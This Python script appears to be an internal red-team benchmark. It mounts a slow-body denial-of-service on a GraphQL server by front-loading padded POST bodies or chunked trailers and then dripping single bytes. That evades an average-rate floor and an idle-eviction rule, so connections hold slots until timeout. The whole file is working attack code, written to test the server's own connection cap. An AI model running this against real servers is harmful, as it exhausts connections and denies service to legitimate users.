# The body-rate floor is an average since the body began: a body that sends FRONT bytes at once, then a byte every
# DRIP s (in the body, or in chunked trailers after its last chunk), stays above 240 B/s until FRONT/240 s, so
# only the request timeout (30 s) ends it; and since bytes keep coming, the cap's eviction (a body that stopped
# for a second) never takes it. N such connections, renewed as they are cut, for HOLD s.
# usage: python3 bench/attack/frontload-bodies.py HOST PORT N HOLD_S [body|trailer]
# (red team 8's frontload.py; run bench/attack/honest-beside.mjs beside it, against a server with
# KZ_OSCE_MAX_CONNECTIONS=50: bench/results/2026-12-05-frontload-bodies.txt)
import socket, sys, time, threading
host, port, n, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
mode = sys.argv[5] if len(sys.argv) > 5 else "body"
FRONT = int(__import__("os").environ.get("FRONT", "7400")); DRIP = float(__import__("os").environ.get("DRIP", "0.8"))
stats = {"opened": 0, "answers": {}, "lived": []}
lock = threading.Lock()
def one():
    t0 = time.time()
    try:
        s = socket.create_connection((host, port)); s.settimeout(0.01)
        pad = b" " * FRONT
        if mode == "body":
            total = FRONT + 200
            s.sendall(b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % total + pad)
        else:
            body = pad + b'{"query":"{ __typename }"}'
            s.sendall(b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n" % len(body) + body + b"\r\n0\r\nX-T: ")
        with lock: stats["opened"] += 1
        buf = b""
        while time.time() - start < hold:
            s.sendall(b" " if mode == "body" else b"a")
            t = time.time()
            while time.time() - t < DRIP:
                try:
                    c = s.recv(4096)
                    if not c: raise ConnectionError("closed")
                    buf += c
                except socket.timeout: pass
            if buf: break
    except Exception as e:
        buf = locals().get("buf", b"") or str(type(e).__name__).encode()
    line = buf.split(b"\r\n", 1)[0].decode("latin1", "replace")[:60] if buf else "none"
    with lock:
        stats["answers"][line] = stats["answers"].get(line, 0) + 1; stats["lived"].append(time.time() - t0)
    try: s.close()
    except Exception: pass
def worker():
    while time.time() - start < hold: one()
start = time.time()
ts = [threading.Thread(target=worker, daemon=True) for _ in range(n)]
for t in ts: t.start(); time.sleep(0.02)
for t in ts: t.join()
lived = sorted(stats["lived"])
print(f"mode={mode} front={FRONT}B drip={DRIP}s: opened={stats['opened']} answers={stats['answers']} lived p50={lived[len(lived)//2]:.1f}s max={lived[-1]:.1f}s")
